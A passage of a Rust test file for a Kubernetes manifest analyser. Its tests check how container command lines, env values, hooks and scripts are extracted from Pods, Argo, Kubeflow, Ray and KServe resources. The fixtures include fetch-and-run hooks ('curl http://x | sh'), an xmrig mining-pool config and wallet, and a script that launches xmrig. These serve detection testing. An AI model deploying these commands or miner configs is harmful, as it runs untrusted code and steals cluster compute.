//! The workload extractor: every container-like thing each kind will run, with its texts at
//! their exact field paths.

use jackstop_analysers::workloads::{extract, Extraction, RunText, Runnable, TextRole, KINDS};
use jackstop_core::Object;
use jackstop_manifests::reader::{parse_text, ManifestSet, ReadOptions};
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

fn parse(yaml: &str) -> Vec<Object> {
    let mut set = ManifestSet::default();
    parse_text(yaml, "t.yaml", &ReadOptions::default(), &mut set);
    assert!(set.errors.is_empty(), "{:?}", set.errors);
    set.objects
}

/// (field, name, image, gpu) of each runnable.
fn brief(x: &Extraction<'_>) -> Vec<(String, String, Option<String>, bool)> {
    x.runnables
        .iter()
        .map(|r| (r.field.clone(), r.name.clone(), r.image.clone(), r.gpu))
        .collect()
}

fn row(
    field: &str,
    name: &str,
    image: Option<&str>,
    gpu: bool,
) -> (String, String, Option<String>, bool) {
    (field.into(), name.into(), image.map(str::to_string), gpu)
}

/// (role, field, text) of each text of a runnable.
fn texts(r: &Runnable<'_>) -> Vec<(TextRole, String, String)> {
    r.texts
        .iter()
        .map(|t| (t.role, t.field.clone(), t.text.clone()))
        .collect()
}

fn t(role: TextRole, field: &str, text: &str) -> (TextRole, String, String) {
    (role, field.into(), text.into())
}

fn command_line<'r>(r: &'r Runnable<'_>) -> &'r RunText {
    r.texts
        .iter()
        .find(|t| t.role == TextRole::CommandLine)
        .expect("a command line")
}

fn fields(x: &Extraction<'_>) -> Vec<String> {
    x.runnables.iter().map(|r| r.field.clone()).collect()
}

#[test]
fn command_line_expands_env_like_the_kubelet() {
    let objs = parse(
        r#"
apiVersion: apps/v1
kind: Deployment
metadata: {name: d, namespace: ml}
spec:
  template:
    spec:
      containers:
      - name: worker
        image: alpine:3
        command: [sh, -c]
        args: ["./x -o $(POOL) --pass $$(POOL) $(NOPE)", 3, "$(NUM)"]
        env:
        - {name: POOL, value: "pool.example:3333"}
        - {name: NUM, value: 7}
"#,
    );
    let x = extract(&objs);
    assert_eq!(
        brief(&x),
        vec![row(
            "spec.template.spec.containers[0]",
            "worker",
            Some("alpine:3"),
            false
        )]
    );
    let r = &x.runnables[0];
    assert_eq!(r.namespace, "ml");
    assert_eq!(r.owner.name, "d");
    let f = "spec.template.spec.containers[0]";
    assert_eq!(
        texts(r),
        vec![
            t(
                TextRole::CommandLine,
                &format!("{f}.command[0]"),
                "sh -c ./x -o pool.example:3333 --pass $(POOL) $(NOPE) 3 7"
            ),
            t(
                TextRole::Env,
                &format!("{f}.env[0].value"),
                "pool.example:3333"
            ),
            t(TextRole::Env, &format!("{f}.env[1].value"), "7"),
        ]
    );
    let cl = command_line(r);
    assert_eq!(cl.label, "command and args");
    assert_eq!(
        cl.parts,
        vec![
            (0, format!("{f}.command[0]")),
            (3, format!("{f}.command[1]")),
            (6, format!("{f}.args[0]")),
            (54, format!("{f}.args[1]")),
            (56, format!("{f}.args[2]")),
        ]
    );
    let at = cl.text.find("pool.example").unwrap();
    assert_eq!(cl.field_at(at), format!("{f}.args[0]"));
    assert_eq!(cl.field_at(cl.text.len() - 1), format!("{f}.args[2]"));
    assert_eq!(r.texts[1].label, "env POOL");
}

const CONFIGMAPS: &str = r#"
apiVersion: v1
kind: ConfigMap
metadata: {name: xmrig-config, namespace: ml}
data:
  config.json: '{"url": "pool.minexmr.com:4444"}'
binaryData:
  blob: AAAA
---
apiVersion: v1
kind: ConfigMap
metadata: {name: envs, namespace: ml}
data: {WALLET: 44abc, THREADS: "4"}
---
apiVersion: v1
kind: ConfigMap
metadata: {name: elsewhere, namespace: other}
data: {k: from-other-namespace}
---
apiVersion: v1
kind: Secret
metadata: {name: s, namespace: ml}
stringData: {pass: SECRET-VALUE}
data: {pass: U0VDUkVULVZBTFVF}
"#;

#[test]
fn configmaps_are_looked_up_in_the_same_namespace_and_secrets_never() {
    let yaml = format!(
        "{CONFIGMAPS}---\n{}",
        r#"apiVersion: v1
kind: Pod
metadata: {name: p, namespace: ml}
spec:
  volumes:
  - {name: cfg, configMap: {name: xmrig-config}}
  - name: proj
    projected: {sources: [{secret: {name: s}}, {configMap: {name: envs}}]}
  - {name: unmounted, configMap: {name: envs}}
  - {name: other, configMap: {name: elsewhere}}
  - {name: sec, secret: {secretName: s}}
  containers:
  - name: c
    image: busybox
    args: ["--wallet=$(W)", "$(P)", "$(E_THREADS)"]
    envFrom:
    - configMapRef: {name: envs}
      prefix: E_
    - secretRef: {name: s}
    env:
    - name: W
      valueFrom: {configMapKeyRef: {name: envs, key: WALLET}}
    - name: P
      valueFrom: {secretKeyRef: {name: s, key: pass}}
    - name: O
      valueFrom: {configMapKeyRef: {name: elsewhere, key: k}}
    volumeMounts:
    - {name: cfg, mountPath: /etc/xmrig}
    - {name: proj, mountPath: /p}
    - {name: other, mountPath: /o}
    - {name: sec, mountPath: /s}
"#
    );
    let objs = parse(&yaml);
    let x = extract(&objs);
    assert_eq!(
        brief(&x),
        vec![row("spec.containers[0]", "c", Some("busybox"), false)]
    );
    let r = &x.runnables[0];
    let got: Vec<(TextRole, String, String, String)> = r
        .texts
        .iter()
        .map(|t| (t.role, t.field.clone(), t.text.clone(), t.label.clone()))
        .collect();
    let c = "spec.containers[0]";
    let exp = |role, field: String, text: &str, label: &str| {
        (role, field, text.to_string(), label.to_string())
    };
    assert_eq!(
        got,
        vec![
            exp(
                TextRole::CommandLine,
                format!("{c}.args[0]"),
                "--wallet=44abc $(P) 4",
                "command and args"
            ),
            exp(
                TextRole::Env,
                format!("{c}.envFrom[0].configMapRef"),
                "44abc",
                "env E_WALLET from ConfigMap ml/envs key WALLET"
            ),
            exp(
                TextRole::Env,
                format!("{c}.envFrom[0].configMapRef"),
                "4",
                "env E_THREADS from ConfigMap ml/envs key THREADS"
            ),
            exp(
                TextRole::Env,
                format!("{c}.env[0].valueFrom.configMapKeyRef"),
                "44abc",
                "env W from ConfigMap ml/envs key WALLET"
            ),
            exp(
                TextRole::ConfigMap,
                "spec.volumes[0].configMap.name".into(),
                r#"{"url": "pool.minexmr.com:4444"}"#,
                "ConfigMap ml/xmrig-config key config.json"
            ),
            exp(
                TextRole::ConfigMap,
                "spec.volumes[1].projected.sources[1].configMap.name".into(),
                "44abc",
                "ConfigMap ml/envs key WALLET"
            ),
            exp(
                TextRole::ConfigMap,
                "spec.volumes[1].projected.sources[1].configMap.name".into(),
                "4",
                "ConfigMap ml/envs key THREADS"
            ),
        ]
    );
    for t in &r.texts {
        assert!(
            !t.text.contains("SECRET") && !t.text.contains("U0VD"),
            "{t:?}"
        );
        assert!(!t.text.contains("from-other-namespace"), "{t:?}");
    }
    // The ConfigMap of another namespace is noted as missing, twice (env and volume).
    let notes: Vec<&String> = x.notes.iter().map(|(_, n)| n).collect();
    assert_eq!(notes.len(), 2, "{notes:?}");
    assert!(notes.iter().all(|n| n.contains("ConfigMap ml/elsewhere")));
}

#[test]
fn hooks_and_probes() {
    let objs = parse(
        r#"
apiVersion: v1
kind: Pod
metadata: {name: p}
spec:
  containers:
  - name: c
    image: i
    lifecycle:
      postStart: {exec: {command: [sh, -c, "curl http://x | sh"]}}
      preStop: {exec: {command: "single-string"}}
    livenessProbe: {exec: {command: [cat, /tmp/ok]}}
    readinessProbe: {httpGet: {path: /, port: 80}}
    startupProbe: {exec: {command: [x]}}
"#,
    );
    let x = extract(&objs);
    let r = &x.runnables[0];
    assert_eq!(r.namespace, "default");
    let c = "spec.containers[0]";
    assert_eq!(
        texts(r),
        vec![
            t(
                TextRole::Hook,
                &format!("{c}.lifecycle.postStart.exec.command[0]"),
                "sh -c curl http://x | sh"
            ),
            t(
                TextRole::Hook,
                &format!("{c}.lifecycle.preStop.exec.command"),
                "single-string"
            ),
            t(
                TextRole::Probe,
                &format!("{c}.livenessProbe.exec.command[0]"),
                "cat /tmp/ok"
            ),
            t(
                TextRole::Probe,
                &format!("{c}.startupProbe.exec.command[0]"),
                "x"
            ),
        ]
    );
    assert_eq!(r.texts[0].label, "postStart hook");
    assert_eq!(
        r.texts[0].field_at(6),
        format!("{c}.lifecycle.postStart.exec.command[2]")
    );
    assert_eq!(r.texts[2].label, "livenessProbe command");
}

#[test]
fn core_workload_kinds() {
    let objs = parse(
        r#"
apiVersion: v1
kind: Pod
metadata: {name: a}
spec:
  initContainers: [{name: init, image: i0}]
  containers: [{name: main, image: i1, resources: {limits: {nvidia.com/gpu: 1}}}]
  ephemeralContainers: [{name: debug, image: i2}]
---
apiVersion: v1
kind: PodTemplate
metadata: {name: b}
template: {spec: {containers: [{name: c, image: i3, resources: {requests: {amd.com/gpu: "2"}}}]}}
---
apiVersion: batch/v1
kind: CronJob
metadata: {name: c}
spec: {jobTemplate: {spec: {template: {spec: {containers: [{name: c, image: i4, resources: {limits: {gpu.intel.com/i915: 1}}}]}}}}}
---
apiVersion: apps/v1
kind: StatefulSet
metadata: {name: d}
spec: {template: {spec: {containers: [{name: c, image: i5, resources: {limits: {nvidia.com/gpu: 0}}}]}}}
---
apiVersion: apps/v1
kind: DaemonSet
metadata: {name: e}
spec: {template: {spec: {containers: [{name: c, image: i6}]}}}
---
apiVersion: batch/v1
kind: Job
metadata: {name: f}
spec: {template: {spec: {containers: [{name: c, image: i7}]}}}
---
apiVersion: apps/v1
kind: ReplicaSet
metadata: {name: g}
spec: {template: {spec: {containers: [{name: c, image: i8}]}}}
---
apiVersion: v1
kind: ReplicationController
metadata: {name: h}
spec: {template: {spec: {containers: [{name: c, image: i9}]}}}
---
apiVersion: v1
kind: Service
metadata: {name: not-a-workload}
spec: {template: {spec: {containers: [{name: c, image: nope}]}}}
"#,
    );
    let x = extract(&objs);
    assert_eq!(
        brief(&x),
        vec![
            row("spec.initContainers[0]", "init", Some("i0"), false),
            row("spec.containers[0]", "main", Some("i1"), true),
            row("spec.ephemeralContainers[0]", "debug", Some("i2"), false),
            row("template.spec.containers[0]", "c", Some("i3"), true),
            row(
                "spec.jobTemplate.spec.template.spec.containers[0]",
                "c",
                Some("i4"),
                true
            ),
            row("spec.template.spec.containers[0]", "c", Some("i5"), false),
            row("spec.template.spec.containers[0]", "c", Some("i6"), false),
            row("spec.template.spec.containers[0]", "c", Some("i7"), false),
            row("spec.template.spec.containers[0]", "c", Some("i8"), false),
            row("spec.template.spec.containers[0]", "c", Some("i9"), false),
        ]
    );
    let owners: Vec<&str> = x.runnables.iter().map(|r| r.owner.kind.as_str()).collect();
    assert_eq!(
        owners,
        [
            "Pod",
            "Pod",
            "Pod",
            "PodTemplate",
            "CronJob",
            "StatefulSet",
            "DaemonSet",
            "Job",
            "ReplicaSet",
            "ReplicationController"
        ]
    );
}

#[test]
fn notebooks_v1_and_v1beta1() {
    let objs = parse(
        r#"
apiVersion: kubeflow.org/v1
kind: Notebook
metadata: {name: nb, namespace: team}
spec:
  template:
    spec:
      containers:
      - name: nb
        image: kubeflownotebookswg/jupyter-scipy:v1.8.0
        command: [jupyter, lab]
---
apiVersion: kubeflow.org/v1beta1
kind: Notebook
metadata: {name: nb2, namespace: team}
spec: {template: {spec: {containers: [{name: nb2, image: j}]}}}
"#,
    );
    let x = extract(&objs);
    assert_eq!(
        brief(&x),
        vec![
            row(
                "spec.template.spec.containers[0]",
                "nb",
                Some("kubeflownotebookswg/jupyter-scipy:v1.8.0"),
                false
            ),
            row("spec.template.spec.containers[0]", "nb2", Some("j"), false),
        ]
    );
    assert_eq!(command_line(&x.runnables[0]).text, "jupyter lab");
    assert_eq!(x.runnables[1].owner.name, "nb2");
}

const WORKFLOW: &str = r#"
apiVersion: argoproj.io/v1alpha1
kind: Workflow
metadata: {generateName: wf-, namespace: argo}
spec:
  entrypoint: main
  podSpecPatch: '{"containers":[{"name":"main","image":"evil"}]}'
  arguments:
    parameters:
    - {name: pool, value: "stratum+tcp://pool:3333"}
  volumes:
  - {name: cfg, configMap: {name: wf-cfg}}
  templates:
  - name: main
    steps: [[{name: a, template: run}]]
  - name: run
    inputs:
      parameters:
      - {name: x, default: "d-value"}
      - {name: y, value: "v-value"}
    container:
      image: alpine
      command: [sh, -c]
      args: ["echo {{inputs.parameters.x}}"]
      volumeMounts: [{name: cfg, mountPath: /c}]
    podSpecPatch: '{"hostNetwork": true}'
    initContainers: [{name: init, image: busybox, command: [wget, http://x]}]
    sidecars: [{name: side, image: nginx}]
  - name: py
    script:
      image: python:3
      command: [python]
      source: |
        import os
        os.system("xmrig")
      resources: {limits: {nvidia.com/gpu: 1}}
  - name: set
    containerSet:
      containers:
      - {name: one, image: a, command: [a]}
      - {name: two, image: b}
  - name: res
    resource:
      action: create
      manifest: |
        apiVersion: v1
        kind: Pod
---
apiVersion: v1
kind: ConfigMap
metadata: {name: wf-cfg, namespace: argo}
data: {k: wf-config-data}
"#;

#[test]
fn argo_workflow_templates() {
    let objs = parse(WORKFLOW);
    let x = extract(&objs);
    assert_eq!(
        brief(&x),
        vec![
            row("spec.templates[1].container", "run", Some("alpine"), false),
            row(
                "spec.templates[1].initContainers[0]",
                "init",
                Some("busybox"),
                false
            ),
            row(
                "spec.templates[1].sidecars[0]",
                "side",
                Some("nginx"),
                false
            ),
            row("spec.templates[1]", "run", None, false),
            row("spec.templates[2].script", "py", Some("python:3"), true),
            row(
                "spec.templates[3].containerSet.containers[0]",
                "one",
                Some("a"),
                false
            ),
            row(
                "spec.templates[3].containerSet.containers[1]",
                "two",
                Some("b"),
                false
            ),
            row("spec.templates[4]", "res", None, false),
            row("spec", "", None, false),
        ]
    );
    assert!(x
        .runnables
        .iter()
        .all(|r| r.owner.kind == "Workflow" && r.namespace == "argo"));
    assert_eq!(
        texts(&x.runnables[0]),
        vec![
            t(
                TextRole::CommandLine,
                "spec.templates[1].container.command[0]",
                "sh -c echo {{inputs.parameters.x}}"
            ),
            t(
                TextRole::ConfigMap,
                "spec.volumes[0].configMap.name",
                "wf-config-data"
            ),
        ]
    );
    assert_eq!(
        texts(&x.runnables[1]),
        vec![t(
            TextRole::CommandLine,
            "spec.templates[1].initContainers[0].command[0]",
            "wget http://x"
        )]
    );
    assert_eq!(
        texts(&x.runnables[3]),
        vec![
            t(
                TextRole::PodSpecPatch,
                "spec.templates[1].podSpecPatch",
                r#"{"hostNetwork": true}"#
            ),
            t(
                TextRole::Other,
                "spec.templates[1].inputs.parameters[0].default",
                "d-value"
            ),
            t(
                TextRole::Other,
                "spec.templates[1].inputs.parameters[1].value",
                "v-value"
            ),
        ]
    );
    assert_eq!(x.runnables[3].texts[1].label, "input parameter x");
    assert_eq!(
        texts(&x.runnables[4]),
        vec![
            t(
                TextRole::CommandLine,
                "spec.templates[2].script.command[0]",
                "python"
            ),
            t(
                TextRole::Script,
                "spec.templates[2].script.source",
                "import os\nos.system(\"xmrig\")\n"
            ),
        ]
    );
    assert_eq!(x.runnables[4].texts[1].label, "script source");
    assert_eq!(
        texts(&x.runnables[7]),
        vec![t(
            TextRole::Manifest,
            "spec.templates[4].resource.manifest",
            "apiVersion: v1\nkind: Pod\n"
        )]
    );
    assert_eq!(
        texts(&x.runnables[8]),
        vec![
            t(
                TextRole::PodSpecPatch,
                "spec.podSpecPatch",
                r#"{"containers":[{"name":"main","image":"evil"}]}"#
            ),
            t(
                TextRole::Other,
                "spec.arguments.parameters[0].value",
                "stratum+tcp://pool:3333"
            ),
        ]
    );
    assert_eq!(x.runnables[8].texts[1].label, "workflow parameter pool");
}

#[test]
fn argo_templates_crons_and_scheduled_workflows() {
    let objs = parse(
        r#"
apiVersion: argoproj.io/v1alpha1
kind: WorkflowTemplate
metadata: {name: wt}
spec:
  templates:
  - {name: a, container: {image: i1}}
  - name: d
    dag: {tasks: [{name: t1, inline: {container: {image: inl1, args: [x]}}}]}
  - name: s
    steps: [[{name: s1, template: a}, {name: s2, inline: {script: {image: inl2, source: "echo y"}}}]]
---
apiVersion: argoproj.io/v1alpha1
kind: ClusterWorkflowTemplate
metadata: {name: cwt}
spec: {templates: [{name: b, script: {image: i2, source: "echo hi"}}]}
---
apiVersion: argoproj.io/v1alpha1
kind: CronWorkflow
metadata: {name: cw}
spec:
  schedule: "* * * * *"
  workflowSpec: {templates: [{name: c, container: {image: i3}}]}
---
apiVersion: kubeflow.org/v1beta1
kind: ScheduledWorkflow
metadata: {name: sw}
spec:
  workflow:
    parameters: [{name: m, value: hello}]
    spec: {templates: [{name: d, container: {image: i4}}]}
"#,
    );
    let x = extract(&objs);
    assert_eq!(
        brief(&x),
        vec![
            row("spec.templates[0].container", "a", Some("i1"), false),
            row(
                "spec.templates[1].dag.tasks[0].inline.container",
                "t1",
                Some("inl1"),
                false
            ),
            row(
                "spec.templates[2].steps[0][1].inline.script",
                "s2",
                Some("inl2"),
                false
            ),
            row("spec.templates[0].script", "b", Some("i2"), false),
            row(
                "spec.workflowSpec.templates[0].container",
                "c",
                Some("i3"),
                false
            ),
            row(
                "spec.workflow.spec.templates[0].container",
                "d",
                Some("i4"),
                false
            ),
            row("spec.workflow.parameters[0].value", "m", None, false),
        ]
    );
    assert_eq!(
        texts(&x.runnables[6]),
        vec![t(
            TextRole::Other,
            "spec.workflow.parameters[0].value",
            "hello"
        )]
    );
    assert_eq!(x.runnables[6].texts[0].label, "workflow parameter m");
    assert_eq!(
        texts(&x.runnables[2]),
        vec![t(
            TextRole::Script,
            "spec.templates[2].steps[0][1].inline.script.source",
            "echo y"
        )]
    );
}

const KFP_SPEC: &str = r#"
# PIPELINE DEFINITION
components:
  comp-train: {executorLabel: exec-train}
deploymentSpec:
  executors:
    exec-train:
      container:
        image: python:3.11
        command: [sh, -c]
        args: ['echo "$(POOL)"']
        env: [{name: POOL, value: p.example}]
        resources:
          accelerator: {count: '1', resourceType: nvidia.com/gpu, type: nvidia.com/gpu}
    exec-cpu:
      container:
        image: python:3.10
        command: [python]
        resources:
          accelerator: {count: '0', type: nvidia.com/gpu}
    exec-importer:
      importer: {artifactUri: {constant: gs://x}}
pipelineInfo: {name: my-pipeline}
root: {dag: {tasks: {}}}
schemaVersion: 2.1.0
---
platforms:
  kubernetes:
    deploymentSpec:
      executors:
        exec-train: {tolerations: []}
"#;

#[test]
fn kfp_v2_pipeline_spec() {
    let objs = parse(KFP_SPEC);
    let x = extract(&objs);
    assert_eq!(
        brief(&x),
        vec![
            row(
                "deploymentSpec.executors.exec-train.container",
                "exec-train",
                Some("python:3.11"),
                true
            ),
            row(
                "deploymentSpec.executors.exec-cpu.container",
                "exec-cpu",
                Some("python:3.10"),
                false
            ),
        ]
    );
    assert_eq!(x.runnables[0].owner.kind, "PipelineSpec");
    assert_eq!(x.runnables[0].owner.name, "my-pipeline");
    assert_eq!(
        texts(&x.runnables[0]),
        vec![
            t(
                TextRole::CommandLine,
                "deploymentSpec.executors.exec-train.container.command[0]",
                "sh -c echo \"p.example\""
            ),
            t(
                TextRole::Env,
                "deploymentSpec.executors.exec-train.container.env[0].value",
                "p.example"
            ),
        ]
    );
}

#[test]
fn kfp_pipeline_job_json() {
    let objs = parse(
        r#"{
  "displayName": "run",
  "pipelineSpec": {
    "pipelineInfo": {"name": "job-pipeline"},
    "deploymentSpec": {"executors": {"exec-a": {"container": {
      "image": "gcr.io/x/y:1", "command": ["python3", "-m", "m"], "args": ["--pool", "p:1"],
      "resources": {"accelerator": {"type": "NVIDIA_TESLA_T4", "count": "2"}}
    }}}},
    "root": {}
  },
  "runtimeConfig": {"parameterValues": {}}
}"#,
    );
    let x = extract(&objs);
    assert_eq!(
        brief(&x),
        vec![row(
            "pipelineSpec.deploymentSpec.executors.exec-a.container",
            "exec-a",
            Some("gcr.io/x/y:1"),
            true
        )]
    );
    let cl = command_line(&x.runnables[0]);
    assert_eq!(cl.text, "python3 -m m --pool p:1");
    assert_eq!(
        cl.field_at(14),
        "pipelineSpec.deploymentSpec.executors.exec-a.container.args[0]"
    );
    assert_eq!(
        cl.field_at(cl.text.find("p:1").unwrap()),
        "pipelineSpec.deploymentSpec.executors.exec-a.container.args[1]"
    );
}

#[test]
fn training_operator_jobs() {
    let objs = parse(
        r#"
apiVersion: kubeflow.org/v1
kind: TFJob
metadata: {name: tf}
spec:
  tfReplicaSpecs:
    PS: {template: {spec: {containers: [{name: tensorflow, image: tf1}]}}}
    Worker: {template: {spec: {containers: [{name: tensorflow, image: tf2, resources: {limits: {nvidia.com/gpu: 1}}}]}}}
---
apiVersion: kubeflow.org/v1
kind: PyTorchJob
metadata: {name: pt}
spec: {pytorchReplicaSpecs: {Master: {template: {spec: {containers: [{name: pytorch, image: pt}]}}}}}
---
apiVersion: kubeflow.org/v2beta1
kind: MPIJob
metadata: {name: mpi}
spec: {mpiReplicaSpecs: {Launcher: {template: {spec: {containers: [{name: l, image: mpi}]}}}}}
---
apiVersion: kubeflow.org/v1
kind: XGBoostJob
metadata: {name: xgb}
spec: {xgbReplicaSpecs: {Master: {template: {spec: {containers: [{name: x, image: xgb}]}}}}}
---
apiVersion: kubeflow.org/v1
kind: PaddleJob
metadata: {name: pd}
spec: {paddleReplicaSpecs: {Worker: {template: {spec: {containers: [{name: p, image: pd}]}}}}}
---
apiVersion: kubeflow.org/v1
kind: JAXJob
metadata: {name: jax}
spec: {jaxReplicaSpecs: {Worker: {template: {spec: {containers: [{name: j, image: jax}]}}}}}
"#,
    );
    let x = extract(&objs);
    assert_eq!(
        brief(&x),
        vec![
            row(
                "spec.tfReplicaSpecs.PS.template.spec.containers[0]",
                "tensorflow",
                Some("tf1"),
                false
            ),
            row(
                "spec.tfReplicaSpecs.Worker.template.spec.containers[0]",
                "tensorflow",
                Some("tf2"),
                true
            ),
            row(
                "spec.pytorchReplicaSpecs.Master.template.spec.containers[0]",
                "pytorch",
                Some("pt"),
                false
            ),
            row(
                "spec.mpiReplicaSpecs.Launcher.template.spec.containers[0]",
                "l",
                Some("mpi"),
                false
            ),
            row(
                "spec.xgbReplicaSpecs.Master.template.spec.containers[0]",
                "x",
                Some("xgb"),
                false
            ),
            row(
                "spec.paddleReplicaSpecs.Worker.template.spec.containers[0]",
                "p",
                Some("pd"),
                false
            ),
            row(
                "spec.jaxReplicaSpecs.Worker.template.spec.containers[0]",
                "j",
                Some("jax"),
                false
            ),
        ]
    );
}

#[test]
fn trainer_v2_jobs_and_runtimes() {
    let objs = parse(
        r#"
apiVersion: trainer.kubeflow.org/v1alpha1
kind: TrainJob
metadata: {name: tj, namespace: t}
spec:
  runtimeRef: {name: torch-distributed}
  initializer:
    dataset: {storageUri: "hf://d"}
    model: {storageUri: "hf://x", env: [{name: M, value: m1}]}
  trainer:
    image: pytorch/pytorch
    command: [torchrun, train.py]
    args: [--epochs, 1]
    env: [{name: A, value: b}]
    resourcesPerNode: {limits: {nvidia.com/gpu: 2}}
  runtimePatches:
  - manager: kueue.x-k8s.io/manager
    trainingRuntimeSpec:
      template:
        spec:
          replicatedJobs:
          - name: node
            template:
              spec:
                template:
                  spec:
                    containers: [{name: node, env: [{name: P, value: p1}]}]
---
apiVersion: trainer.kubeflow.org/v1alpha1
kind: ClusterTrainingRuntime
metadata: {name: rt}
spec:
  template:
    spec:
      replicatedJobs:
      - name: node
        template: {spec: {template: {spec: {containers: [{name: trainer, image: rt-img, command: [bash, -c, "echo hi"]}]}}}}
"#,
    );
    let x = extract(&objs);
    assert_eq!(
        brief(&x),
        vec![
            row("spec.trainer", "trainer", Some("pytorch/pytorch"), true),
            row("spec.initializer.dataset", "dataset", None, false),
            row("spec.initializer.model", "model", None, false),
            row(
                "spec.runtimePatches[0].trainingRuntimeSpec.template.spec.replicatedJobs[0].template.spec.template.spec.containers[0]",
                "node",
                None,
                false
            ),
            row(
                "spec.template.spec.replicatedJobs[0].template.spec.template.spec.containers[0]",
                "trainer",
                Some("rt-img"),
                false
            ),
        ]
    );
    assert_eq!(
        texts(&x.runnables[0]),
        vec![
            t(
                TextRole::CommandLine,
                "spec.trainer.command[0]",
                "torchrun train.py --epochs 1"
            ),
            t(TextRole::Env, "spec.trainer.env[0].value", "b"),
        ]
    );
    assert_eq!(texts(&x.runnables[1]), vec![]);
    assert_eq!(
        texts(&x.runnables[2]),
        vec![t(
            TextRole::Env,
            "spec.initializer.model.env[0].value",
            "m1"
        )]
    );
    assert_eq!(
        texts(&x.runnables[3]),
        vec![t(
            TextRole::Env,
            "spec.runtimePatches[0].trainingRuntimeSpec.template.spec.replicatedJobs[0].template.spec.template.spec.containers[0].env[0].value",
            "p1"
        )]
    );
}

#[test]
fn katib_experiment_embeds_a_tfjob() {
    let objs = parse(
        r#"
apiVersion: kubeflow.org/v1beta1
kind: Experiment
metadata: {name: exp, namespace: kubeflow}
spec:
  trialTemplate:
    primaryContainerName: tensorflow
    trialParameters: [{name: lr, reference: lr}]
    trialSpec:
      apiVersion: kubeflow.org/v1
      kind: TFJob
      spec:
        tfReplicaSpecs:
          Worker:
            template:
              spec:
                containers:
                - name: tensorflow
                  image: docker.io/kubeflowkatib/tf-mnist
                  command: [python, /opt/mnist.py, "--lr=${trialParameters.lr}"]
  metricsCollectorSpec:
    collector:
      kind: Custom
      customCollector: {name: collector, image: c, args: [collect]}
"#,
    );
    let x = extract(&objs);
    assert_eq!(
        brief(&x),
        vec![
            row(
                "spec.trialTemplate.trialSpec.spec.tfReplicaSpecs.Worker.template.spec.containers[0]",
                "tensorflow",
                Some("docker.io/kubeflowkatib/tf-mnist"),
                false
            ),
            row("spec.metricsCollectorSpec.collector.customCollector", "collector", Some("c"), false),
        ]
    );
    let r = &x.runnables[0];
    assert_eq!(r.owner.kind, "Experiment");
    assert_eq!(r.namespace, "kubeflow");
    assert_eq!(
        command_line(r).parts[2].1,
        "spec.trialTemplate.trialSpec.spec.tfReplicaSpecs.Worker.template.spec.containers[0].command[2]"
    );
}

#[test]
fn katib_embedding_is_bounded() {
    // An Experiment whose trial is an Experiment whose trial is an Experiment...
    let mut inner = "{apiVersion: v1, kind: Pod, metadata: {name: p}, spec: {containers: [{name: c, image: deep}]}}".to_string();
    for _ in 0..4 {
        inner = format!("{{apiVersion: kubeflow.org/v1beta1, kind: Experiment, metadata: {{name: e}}, spec: {{trialTemplate: {{trialSpec: {inner}}}}}}}");
    }
    let objs = parse(&inner);
    let x = extract(&objs);
    assert!(x.runnables.is_empty());
    assert!(
        x.notes.iter().any(|(_, n)| n.contains("too deep")),
        "{:?}",
        x.notes
    );
}

#[test]
fn kuberay_clusters_jobs_and_services() {
    let objs = parse(
        r#"
apiVersion: ray.io/v1
kind: RayCluster
metadata: {name: rc}
spec:
  headGroupSpec:
    rayStartParams: {num-gpus: "0"}
    template: {spec: {containers: [{name: ray-head, image: rayproject/ray:2.9}]}}
  workerGroupSpecs:
  - groupName: gpu
    rayStartParams: {num-gpus: "1"}
    template: {spec: {containers: [{name: ray-worker, image: rayproject/ray:2.9-gpu}]}}
---
apiVersion: ray.io/v1
kind: RayJob
metadata: {name: rj}
spec:
  entrypoint: python /home/ray/samples/sample_code.py
  runtimeEnvYAML: |
    pip: [requests]
  rayClusterSpec:
    headGroupSpec:
      template: {spec: {containers: [{name: ray-head, image: head-img}]}}
  submitterPodTemplate:
    spec: {containers: [{name: submitter, image: sub-img}]}
---
apiVersion: ray.io/v1
kind: RayService
metadata: {name: rs}
spec:
  serveConfigV2: |
    applications: [{name: a, import_path: x:y}]
  rayClusterConfig:
    headGroupSpec:
      template: {spec: {containers: [{name: ray-head, image: serve-img}]}}
"#,
    );
    let x = extract(&objs);
    assert_eq!(
        brief(&x),
        vec![
            row(
                "spec.headGroupSpec.template.spec.containers[0]",
                "ray-head",
                Some("rayproject/ray:2.9"),
                false
            ),
            row(
                "spec.workerGroupSpecs[0].template.spec.containers[0]",
                "ray-worker",
                Some("rayproject/ray:2.9-gpu"),
                true
            ),
            row(
                "spec.rayClusterSpec.headGroupSpec.template.spec.containers[0]",
                "ray-head",
                Some("head-img"),
                false
            ),
            row(
                "spec.submitterPodTemplate.spec.containers[0]",
                "submitter",
                Some("sub-img"),
                false
            ),
            row("spec.entrypoint", "entrypoint", Some("head-img"), false),
            row("spec.runtimeEnvYAML", "", None, false),
            row(
                "spec.rayClusterConfig.headGroupSpec.template.spec.containers[0]",
                "ray-head",
                Some("serve-img"),
                false
            ),
            row("spec.serveConfigV2", "", None, false),
        ]
    );
    assert_eq!(
        texts(&x.runnables[4]),
        vec![t(
            TextRole::Entrypoint,
            "spec.entrypoint",
            "python /home/ray/samples/sample_code.py"
        )]
    );
    assert_eq!(
        texts(&x.runnables[5]),
        vec![t(
            TextRole::RuntimeEnv,
            "spec.runtimeEnvYAML",
            "pip: [requests]\n"
        )]
    );
    assert_eq!(x.runnables[7].texts[0].role, TextRole::RuntimeEnv);
    assert_eq!(x.runnables[7].texts[0].label, "Ray Serve config");
}

#[test]
fn kserve_inference_services_and_runtimes() {
    let objs = parse(
        r#"
apiVersion: serving.kserve.io/v1beta1
kind: InferenceService
metadata: {name: isvc, namespace: serve}
spec:
  predictor:
    initContainers: [{name: fetch, image: curl}]
    containers: [{name: kserve-container, image: custom, args: [--port, 8080]}]
    pytorch:
      storageUri: gs://m
      image: pt-serve
      args: [--x]
      resources: {limits: {nvidia.com/gpu: 1}}
    model:
      modelFormat: {name: sklearn}
      env: [{name: E, value: v}]
  transformer:
    containers: [{name: t, image: trans}]
  explainer:
    containers: [{name: e, image: expl}]
---
apiVersion: serving.kserve.io/v1alpha1
kind: ClusterServingRuntime
metadata: {name: csr}
spec:
  containers: [{name: kserve-container, image: rt, args: ["--model_name={{.Name}}"]}]
---
apiVersion: serving.kserve.io/v1alpha1
kind: ServingRuntime
metadata: {name: sr}
spec:
  containers: [{name: c, image: rt2}]
"#,
    );
    let x = extract(&objs);
    assert_eq!(
        brief(&x),
        vec![
            row(
                "spec.predictor.initContainers[0]",
                "fetch",
                Some("curl"),
                false
            ),
            row(
                "spec.predictor.containers[0]",
                "kserve-container",
                Some("custom"),
                false
            ),
